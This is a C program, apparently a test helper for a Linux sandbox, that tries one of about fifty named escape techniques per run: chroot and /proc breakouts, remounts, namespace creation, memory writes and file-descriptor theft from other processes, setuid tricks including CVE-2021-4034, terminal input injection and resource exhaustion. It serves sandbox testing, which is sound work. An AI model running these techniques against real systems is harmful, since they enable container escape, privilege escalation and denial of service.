/* Attempts to escape from a sandbox. Runs as its command and tries one: `attack NAME [ARGUMENT]`.
 *
 * Exit status: 0 it worked, 1 it was refused (the errno is on stdout), 2 it could not be tried. An
 * attack stops as soon as it has worked, so it does not harm the host.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static const char *argument;

/* Returns whether the kernel has looked at the call's arguments, which it does only if the call is
 * permitted. */
static int reached(long result)
{
    return result >= 0 || errno == EFAULT || errno == EINVAL || errno == EBADF ||
           errno == ENOEXEC || errno == E2BIG || errno == ENOKEY || errno == ESRCH ||
           errno == EOPNOTSUPP || errno == ENOMEM; /* init_module(2): the size is too large */
}

static int reads(const char *path)
{
    int fd = open(path, O_RDONLY);
    return fd >= 0;
}

/* ---- the root ---- */

static int chroot_twice(void)
{
    int root = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/below", 0755);
    if (chroot("/tmp/below") < 0)
        return 0;
    if (fchdir(root) < 0)
        return 0;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return 0;
    return chroot(".") == 0 && reads(argument);
}

static int dots(void)
{
    char path[4096];
    snprintf(path, sizeof path, "/../../../../../../../../..%s", argument);
    return reads(path);
}

static int root_of_pid_1(void)
{
    char path[4096];
    const char *ways[] = {"/proc/1/root/../../..%s", "/proc/self/root/../../..%s",
                          "/proc/1/cwd/../../..%s", "/proc/self/task/1/root/..%s"};
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
        snprintf(path, sizeof path, ways[i], argument);
#pragma GCC diagnostic pop
        if (reads(path))
            return 1;
    }
    return 0;
}

static int write_root(void)
{
    return open("/escaped", O_CREAT | O_WRONLY, 0600) >= 0;
}

/* ---- mounts ---- */

static int take_away(void)
{
    return umount2(argument, MNT_DETACH) == 0;
}

static int remount(void)
{
    return mount("none", "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 && write_root();
}

static int set_attributes(void)
{
    uint64_t attributes[4] = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
    return syscall(442, AT_FDCWD, "/", 0, attributes, sizeof attributes) == 0 && write_root();
}

static int mount_proc(void)
{
    return mount("proc", "/tmp", "proc", 0, NULL) == 0;
}

static int mount_cgroup(void)
{
    return mount("cgroup", "/tmp", "cgroup", 0, "memory") == 0 ||
           mount("cgroup", "/tmp", "cgroup2", 0, NULL) == 0;
}

static int open_for_writing(void)
{
    return open(argument, O_WRONLY) >= 0;
}

static int make_device(void)
{
    return mknod("/dev/disk", S_IFBLK | 0600, makedev(254, 0)) == 0;
}

/* ---- namespaces ---- */

static int new_user_namespace(void)
{
    return unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
}

static int clone_user_namespace(void)
{
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return pid > 0;
}

static int clone3_user_namespace(void)
{
    uint64_t args[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0};
    long pid = syscall(435, args, sizeof args);
    if (pid == 0)
        _exit(0);
    return pid > 0;
}

static int rename_host(void)
{
    return sethostname("escaped", 7) == 0;
}

static int set_clock(void)
{
    return reached(syscall(SYS_clock_settime, CLOCK_REALTIME, NULL));
}

/* ---- calls that have been used for escapes ---- */

static int call(void)
{
    return reached(syscall(strtol(argument, NULL, 0), -1L, -1L, -1L, -1L, -1L, -1L));
}

static int trace_a_child(void)
{
    int pid = fork();
    if (pid == 0) {
        pause();
        _exit(0);
    }
    int worked = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0, err = errno;
    kill(pid, SIGKILL);
    errno = err;
    return worked;
}

static int other_socket(void)
{
    int family = 0, type = 0, protocol = 0;
    if (sscanf(argument, "%i:%i:%i", &family, &type, &protocol) != 3)
        exit(2);
    /* ESOCKTNOSUPPORT comes from the kernel, not from the filter. */
    return socket(family, type, protocol) >= 0 || errno == ESOCKTNOSUPPORT;
}

#if defined __x86_64__
static int other_abi(void)
{
    int pid;
    __asm__ volatile("int $0x80" : "=a"(pid) : "a"(20) : "memory");
    return pid > 0;
}

static int x32(void)
{
    return syscall(0x40000000 | SYS_getpid) > 0 || errno != ENOSYS;
}
#endif

/* ---- memory that is charged to no cgroup ---- */

static const struct sock_filter accept_all = {BPF_RET | BPF_K, 0, 0, 0x7FFF0000};
static const struct sock_fprog program = {1, (struct sock_filter *)(uintptr_t)&accept_all};

/* Attaches a filter to a socket; the kernel compiles each. The argument is the option to use. */
static int attach_filter(void)
{
    int option = atoi(argument), on = 1, fd = socket(AF_INET, SOCK_DGRAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
    return setsockopt(fd, SOL_SOCKET, option, &program, sizeof program) == 0 ||
           (errno != EPERM && reached(-1)); /* EBADF: the option takes an fd */
}

static int own_filter(void)
{
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0;
}

static int own_filter_by_prctl(void)
{
    return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0) == 0;
}

/* Sets an option to 1 and reads it back, because a filter may only pretend that it was set. The
 * argument is FAMILY:TYPE:LEVEL:OPTION. */
static int socket_option(void)
{
    int family = 0, type = 0, level = 0, option = 0, on = 1, now = 0;
    socklen_t size = sizeof now;
    if (sscanf(argument, "%i:%i:%i:%i", &family, &type, &level, &option) != 4)
        exit(2);
    int fd = socket(family, type, 0);
    int set = setsockopt(fd, level, option, &on, sizeof on), err = errno;
    int there = set == 0 && getsockopt(fd, level, option, &now, &size) == 0 && now;
    errno = set == 0 ? 0 : err;
    return there;
}

/* Returns whether an option whose value is not a number reaches its protocol. The argument is
 * LEVEL:OPTION. */
static int option_reached(void)
{
    int level = 0, option = 0;
    if (sscanf(argument, "%i:%i", &level, &option) != 2)
        exit(2);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return setsockopt(fd, level, option, "tls", 3) == 0 || errno != ENOPROTOOPT;
}

/* Sets an ACL of 64 KiB on a file in a tmpfs. The argument names the call. */
static int long_acl(void)
{
    struct {
        uint32_t version;
        struct {
            uint16_t tag, may;
            uint32_t id;
        } entries[8000];
    } acl = {.version = 2, .entries = {{1, 7, ~0U}}};
    const char *path = "/tmp/acl", *name = "system.posix_acl_access";
    const int n = sizeof acl.entries / sizeof acl.entries[0];
    for (int i = 1; i < n - 3; i++) {
        acl.entries[i].tag = 2; /* a user */
        acl.entries[i].id = getuid();
    }
    for (int i = n - 3; i < n; i++) { /* the group, the mask, others */
        acl.entries[i].tag = i == n - 3 ? 4 : i == n - 2 ? 0x10 : 0x20;
        acl.entries[i].id = ~0U;
    }
    int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
    if (!strcmp(argument, "fd"))
        return fsetxattr(fd, name, &acl, sizeof acl, 0) == 0;
    if (!strcmp(argument, "link"))
        return lsetxattr(path, name, &acl, sizeof acl, 0) == 0;
    return setxattr(path, name, &acl, sizeof acl, 0) == 0;
}

/* ---- calls for which the kernel loads modules, and other rare ones ---- */

static int ioctl_reached(void)
{
    unsigned long request = strtoul(argument, NULL, 0), nothing[4] = {0};
    int fd = request >> 8 == 0x89 ? socket(AF_INET, SOCK_DGRAM, 0) : posix_openpt(O_RDWR);
    return fd >= 0 && (ioctl(fd, request, nothing) >= 0 || errno != EPERM);
}

static int out_of_band(void)
{
    int pair[2];
    return socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0 && send(pair[0], "!", 1, MSG_OOB) == 1;
}

static int out_of_band_by_sendmmsg(void)
{
    char byte = '!';
    struct iovec part = {&byte, 1};
    struct mmsghdr message = {.msg_hdr = {.msg_iov = &part, .msg_iovlen = 1}};
    int pair[2];
    return socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0 &&
           sendmmsg(pair[0], &message, 1, MSG_OOB) == 1;
}

/* ---- set-id files ---- */

enum { SET_IDS = S_ISUID | S_ISGID, OPENAT2 = 437, FCHMODAT2 = 452 };

/* Makes a set-id file or directory. The argument names the call. */
static int make_setid(void)
{
    const char *path = "/tmp/set-id", *how = argument;
    struct stat seen = {0};
    int fd = -1;
    umask(0);
    if (strcmp(how, "creat") == 0)
        fd = creat(path, 0755 | S_ISUID);
    else if (strcmp(how, "open") == 0)
        fd = open(path, O_CREAT | O_WRONLY, 0755 | S_ISGID);
    else if (strcmp(how, "tmpfile") == 0)
        fd = open("/tmp", O_TMPFILE | O_RDWR, 0755 | S_ISUID);
    else if (strcmp(how, "openat2") == 0) {
        uint64_t wanted[3] = {O_CREAT | O_WRONLY, 0755 | S_ISUID, 0};
        fd = (int)syscall(OPENAT2, AT_FDCWD, path, wanted, sizeof wanted);
    } else if (strcmp(how, "mknod") == 0) {
        if (mknod(path, S_IFREG | S_ISUID | 0755, 0) == 0)
            fd = open(path, O_RDONLY);
    } else if (strcmp(how, "mkdir") == 0) {
        if (mkdir(path, 0755 | S_ISGID) == 0 && chmod(path, 0755) == 0)
            return 1; /* mkdir(2) ignores the bit instead of refusing it */
    } else {
        fd = open(path, O_CREAT | O_RDWR, 0755);
        int failed = -1;
        if (strcmp(how, "chmod") == 0)
            failed = chmod(path, 0755 | S_ISUID);
        else if (strcmp(how, "fchmod") == 0)
            failed = fchmod(fd, 0755 | S_ISGID);
        else if (strcmp(how, "fchmodat2") == 0)
            failed = (int)syscall(FCHMODAT2, AT_FDCWD, path, 0755 | S_ISUID, 0);
        if (failed)
            return 0;
    }
    return fd >= 0 && fstat(fd, &seen) == 0 && seen.st_mode & SET_IDS;
}

/* ---- neighbours ---- */

static int abstract_socket(void)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strncpy(name.sun_path + 1, argument, sizeof name.sun_path - 2);
    socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(argument));
    return connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&name, size) == 0;
}

static int loopback(void)
{
    struct sockaddr_in name = {.sin_family = AF_INET,
                               .sin_port = htons((uint16_t)atoi(argument)),
                               .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    return connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&name, sizeof name) == 0;
}

static int signal_host(void)
{
    return kill(atoi(argument), 0) == 0;
}

static int look_at_host(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/cmdline", argument);
    return reads(path);
}

/* Returns whether netlink lists an interface besides lo. */
static int links(void)
{
    struct if_nameindex *list = if_nameindex();
    return list && list[0].if_index && list[1].if_index;
}

static int open_fds(void)
{
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            return 1;
    return 0;
}

/* Takes a lease, which makes the next process that opens the file wait until it is released. */
static int lease(void)
{
    int fd = open("/tmp/leased", O_CREAT | O_RDWR, 0600);
    return fd >= 0 && fcntl(fd, F_SETLEASE, F_WRLCK) == 0;
}

static int watch_directory(void)
{
    int fd = open("/tmp", O_RDONLY | O_DIRECTORY);
    return fd >= 0 && fcntl(fd, F_NOTIFY, DN_CREATE) == 0;
}

/* ---- processes that are being started ---- */

static int named(const char *pid, const char *name)
{
    char path[64], comm[32] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t got = fd < 0 ? -1 : read(fd, comm, sizeof comm - 1);
    close(fd);
    return got > 0 && strncmp(comm, name, strlen(name)) == 0;
}

/* Returns whether the process has ended or has executed the command. Breaking into the command is
 * no success: its memory belongs to the sandbox. */
static int has_executed(int pid)
{
    char path[64], program[4096] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, program, sizeof program - 1);
    return n < 0 ? errno == ENOENT || errno == ESRCH
                 : n >= 7 && strcmp(program + n - 7, "/attack") == 0;
}

/* Tries calls that need the same right as ptrace(2). ptrace itself would keep the process from
 * being reaped. `address` is in the caller's memory if the process shares it, else NULL. */
static int break_into(int pid, void *address)
{
    char path[64], byte = 'X';
    struct iovec from = {&byte, 1}, to = {address, 1};
    int in = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    if (memory >= 0) {
        /* On Linux 6.1 the memory of a process that has ended can be opened, but is empty. */
        in |= address ? pwrite(memory, &byte, 1, (off_t)(intptr_t)address) == 1
                      : pread(memory, &byte, 1, 0) != 0;
        close(memory);
    }
    if (address)
        in |= process_vm_writev(pid, &from, 1, &to, 1, 0) == 1;
    int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
    for (int fd = 0; pidfd >= 0 && fd < 16; fd++) {
        int stolen = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
        in |= stolen >= 0 && !address;
        close(stolen);
    }
    close(pidfd);
    return in;
}

static volatile sig_atomic_t stopping;

static void stop(int signal)
{
    (void)signal;
    stopping = 1;
}

/* Runs until SIGTERM. Skips processes that have already executed the command ("attack"). */
static int break_into_joiners(void)
{
    int in = 0, tries = 0;
    signal(SIGTERM, stop);
    puts("ready");
    fflush(stdout);
    while (!stopping) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid() || named(entry->d_name, "attack"))
                continue;
            tries++;
            if (break_into(pid, NULL) && !has_executed(pid))
                in++;
        }
        closedir(proc);
    }
    printf("%d tries\n", tries);
    return in > 0;
}

/* Runs until SIGTERM. The argument is PID:ADDRESS: it attacks the children of this process, and
 * ADDRESS is in the process's memory, or 0. */
static int break_into_children(void)
{
    unsigned long address = 0;
    int parent = 0, in = 0, tries = 0;
    char path[64], list[4096];
    if (sscanf(argument, "%d:%lu", &parent, &address) != 2)
        exit(2);
    signal(SIGTERM, stop);
    puts("ready");
    fflush(stdout);
    snprintf(path, sizeof path, "/proc/%d/task/%d/children", parent, parent);
    while (!stopping) {
        int fd = open(path, O_RDONLY);
        ssize_t got = read(fd, list, sizeof list - 1);
        close(fd);
        list[got > 0 ? got : 0] = 0;
        for (char *at = list, *end; (parent = (int)strtol(at, &end, 10)) > 0; at = end) {
            char pid[16];
            snprintf(pid, sizeof pid, "%d", parent);
            if (parent == getpid() || (!address && named(pid, "attack")))
                continue;
            tries++;
            if (break_into(parent, (void *)address))
                in += address || !has_executed(parent);
        }
    }
    printf("%d tries\n", tries);
    return in > 0;
}

/* Reads pids from stdin. For each, says whether the process's root is open to this one. */
static int look_into(void)
{
    char line[16], path[64];
    int in = 0;
    while (fgets(line, sizeof line, stdin)) {
        snprintf(path, sizeof path, "/proc/%d/root/", atoi(line));
        int fd = open(path, O_RDONLY | O_DIRECTORY);
        puts(fd < 0 ? strerrorname_np(errno) : "worked");
        fflush(stdout);
        in += fd >= 0;
        close(fd);
    }
    return in > 0;
}

/* ---- other ways to execute ---- */

/* Executes a copy of itself in a memfd. The argument is the attack that the copy tries. */
static int through_memory(void)
{
    char bytes[65536];
    int from = open("/attack", O_RDONLY), fd = memfd_create("attack", 0);
    for (ssize_t got; (got = read(from, bytes, sizeof bytes)) > 0;)
        if (write(fd, bytes, (size_t)got) != got)
            return 0;
    char *const args[] = {"attack", (char *)(uintptr_t)argument, NULL}, *const none[] = {NULL};
    syscall(SYS_execveat, fd, "", args, none, AT_EMPTY_PATH);
    return 0;
}

static void script(const char *path, const char *line)
{
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0755);
    if (dprintf(fd, "#!%s\n", line) < 0)
        exit(2);
    close(fd);
}

/* Executes itself through a chain of scripts, the first of which is executed by its fd. */
static int through_scripts(void)
{
    char line[256];
    snprintf(line, sizeof line, "/attack %s", argument);
    script("/tmp/1", line);
    script("/tmp/2", "/tmp/1");
    script("/tmp/3", "/tmp/2");
    snprintf(line, sizeof line, "/proc/self/fd/%d", open("/tmp/3", O_RDONLY));
    char *const args[] = {line, NULL}, *const none[] = {NULL};
    execve(line, args, none);
    return 0;
}

/* Executes a setuid copy of this program with an empty argv. A program that uses argv[1] would then
 * read and write its environment (CVE-2021-4034). The copy runs gained(). */
static int no_arguments(void)
{
    char *const none[] = {NULL}, *const environment[] = {"of-the-attacker", NULL};
    execve("/attack-setuid", none, environment);
    return 0;
}

/* Returns 0 if the process has gained rights. argc may be 0 or 1: Linux 5.18 and later replace an
 * empty argv by {""}. */
static int gained(int argc)
{
    int more = geteuid() != getuid() || getegid() != getgid() || getauxval(AT_SECURE);
    printf("%s with argc %d\n", more ? "gained" : "nothing gained", argc);
    return more ? 0 : 1;
}

/* ---- too much of a resource; the argument says how much, which the host can bear ---- */

static int start_children(int end_at_once)
{
    int pids[1000], wanted = atoi(argument), n = 0, err = 0;
    while (n < wanted && n < 1000 && !err) {
        pids[n] = fork();
        if (pids[n] == 0 && !end_at_once)
            pause();
        if (pids[n] == 0)
            _exit(0);
        if (pids[n] < 0)
            err = errno;
        else
            n++;
    }
    for (int i = 0; i < n; i++) {
        kill(pids[i], SIGKILL);
        waitpid(pids[i], NULL, 0);
    }
    errno = err;
    return !err;
}

static int many_children(void)
{
    return start_children(0);
}

static int many_zombies(void)
{
    return start_children(1);
}

static int fill(int fd)
{
    static char bytes[1 << 20];
    for (int i = atoi(argument); i > 0; i--)
        for (size_t done = 0; done < sizeof bytes;) {
            ssize_t n = write(fd, bytes + done, sizeof bytes - done);
            if (n < 0)
                return 0;
            done += (size_t)n;
        }
    return 1;
}

static int fill_memory_file(void)
{
    return fill(memfd_create("attack", 0));
}

static int fill_tmp(void)
{
    return fill(open("/tmp/attack", O_CREAT | O_WRONLY, 0600));
}

static int fill_shared_memory(void)
{
    return fill(open("/dev/shm/attack", O_CREAT | O_WRONLY, 0600));
}

static int fill_heap(void)
{
    size_t size = (size_t)atoi(argument) << 20;
    char *at = malloc(size);
    for (size_t i = 0; at && i < size; i += 4096)
        ((volatile char *)at)[i] = 1;
    return at != NULL;
}

/* ---- the terminal at stdin ---- */

/* Pushes input to the terminal's next reader. The kernel ignores the upper half of the request. */
static int type_into_terminal(void)
{
    const unsigned long requests[] = {0x5412 /* TIOCSTI */, 0x5412 | 1ul << 32, 0x5412 | 1ul << 63};
    int worked = 0;
    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++)
        for (const char *at = argument; *at; at++)
            worked |= syscall(SYS_ioctl, 0, requests[i], at) == 0;
    return worked;
}

/* Pastes the console's selection. */
static int paste_into_terminal(void)
{
    char selection[] = {3 /* TIOCL_PASTESEL */, 0};
    return ioctl(0, 0x541C /* TIOCLINUX */, selection) == 0;
}

static const struct {
    const char *name;
    int (*run)(void);
} attacks[] = {
    {"break_into_joiners", break_into_joiners},
    {"break_into_children", break_into_children},
    {"look_into", look_into},
    {"through_memory", through_memory},
    {"through_scripts", through_scripts},
    {"no_arguments", no_arguments},
    {"many_children", many_children},
    {"many_zombies", many_zombies},
    {"fill_memory_file", fill_memory_file},
    {"fill_tmp", fill_tmp},
    {"fill_shared_memory", fill_shared_memory},
    {"fill_heap", fill_heap},
    {"links", links},
    {"type_into_terminal", type_into_terminal},
    {"paste_into_terminal", paste_into_terminal},
    {"chroot_twice", chroot_twice},
    {"dots", dots},
    {"root_of_pid_1", root_of_pid_1},
    {"write_root", write_root},
    {"take_away", take_away},
    {"remount", remount},
    {"set_attributes", set_attributes},
    {"mount_proc", mount_proc},
    {"mount_cgroup", mount_cgroup},
    {"open_for_writing", open_for_writing},
    {"make_device", make_device},
    {"new_user_namespace", new_user_namespace},
    {"clone_user_namespace", clone_user_namespace},
    {"clone3_user_namespace", clone3_user_namespace},
    {"rename_host", rename_host},
    {"set_clock", set_clock},
    {"call", call},
    {"trace_a_child", trace_a_child},
    {"other_socket", other_socket},
#if defined __x86_64__
    {"other_abi", other_abi},
    {"x32", x32},
#endif
    {"abstract_socket", abstract_socket},
    {"loopback", loopback},
    {"signal_host", signal_host},
    {"look_at_host", look_at_host},
    {"open_fds", open_fds},
    {"lease", lease},
    {"attach_filter", attach_filter},
    {"own_filter", own_filter},
    {"own_filter_by_prctl", own_filter_by_prctl},
    {"socket_option", socket_option},
    {"option_reached", option_reached},
    {"long_acl", long_acl},
    {"ioctl_reached", ioctl_reached},
    {"out_of_band", out_of_band},
    {"out_of_band_by_sendmmsg", out_of_band_by_sendmmsg},
    {"make_setid", make_setid},
    {"watch_directory", watch_directory},
};

int main(int argc, char **argv)
{
    if (argc == 0 || !*argv[0])
        return gained(argc);
    argument = argc > 2 ? argv[2] : "";
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++) {
        if (strcmp(attacks[i].name, argv[1]) != 0)
            continue;
        errno = 0;
        int worked = attacks[i].run();
        printf("%s\n", worked ? "worked" : strerrorname_np(errno));
        return worked ? 0 : 1;
    }
    return 2;
}
